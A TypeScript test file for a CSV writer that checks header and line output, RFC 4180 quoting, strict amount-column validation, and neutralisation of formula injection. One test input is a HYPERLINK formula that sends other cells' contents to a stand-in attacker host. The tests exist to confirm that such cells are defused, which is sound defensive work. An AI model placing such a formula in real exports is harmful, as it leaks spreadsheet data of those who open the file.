import { toCsv, type CsvColumn } from './csv';

type Row = { name: string | null; amount: string | null };
const COLUMNS: CsvColumn<Row>[] = [{ key: 'name' }, { key: 'amount', amount: true }];

/** The one data line of a CSV of one row. */
const line = (row: Row) => toCsv([row], COLUMNS).split('\r\n')[1];

describe('toCsv', () => {
  it('writes a header, then one CRLF-ended line per row', () => {
    expect(
      toCsv(
        [
          { name: 'Cash', amount: '10.00' },
          { name: 'Sales', amount: '-10.00' },
        ],
        COLUMNS,
      ),
    ).toBe('name,amount\r\nCash,10.00\r\nSales,-10.00\r\n');
    expect(toCsv([], COLUMNS)).toBe('name,amount\r\n');
  });

  it.each([
    ['=', '=HYPERLINK("https://evil.test/?leak="&E2&E3,"Cash")', `"'=HYPERLINK(""https://evil.test/?leak=""&E2&E3,""Cash"")"`],
    ['+', '+1+1', "'+1+1"],
    ['-', '-2+3', "'-2+3"],
    ['-', '-12.50', "'-12.50"],
    ['@', '@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['tab', '\t=1+1', "'\t=1+1"],
    ['carriage return', '\r=1+1', `"'\r=1+1"`],
    ['full-width =', '\uFF1D1+1', "'\uFF1D1+1"],
  ])('neutralises a text cell starting with %s by a leading quote: %j', (_, text, written) => {
    expect(line({ name: text, amount: '1.00' })).toBe(`${written},1.00`);
  });

  it.each([
    ['plain text', 'Cash', 'Cash'],
    ['a formula character inside', 'Cash = till', 'Cash = till'],
    ['an empty cell', '', ''],
    ['no value', null, ''],
    ['a comma', 'Sales, online', '"Sales, online"'],
    ['a quote', 'The "Shop"', '"The ""Shop"""'],
    ['a line feed', 'two\nlines', '"two\nlines"'],
  ])('writes %s as it is, quoted when RFC 4180 needs it', (_, text, written) => {
    expect(line({ name: text, amount: '1.00' })).toBe(`${written},1.00`);
  });

  it.each(['-12.50', '12.50', '0', '-0.001', '1234567890123.45'])('keeps the amount %s a number', (amount) => {
    expect(line({ name: 'x', amount })).toBe(`x,${amount}`);
  });

  it.each(['+5', '=1+1', '1e3', '12.', 'Cash', ' 1.00'])('refuses to write %j in an amount column (a bug, never a formula)', (amount) => {
    expect(() => toCsv([{ name: 'x', amount }], COLUMNS)).toThrow(/amount column/);
  });
});
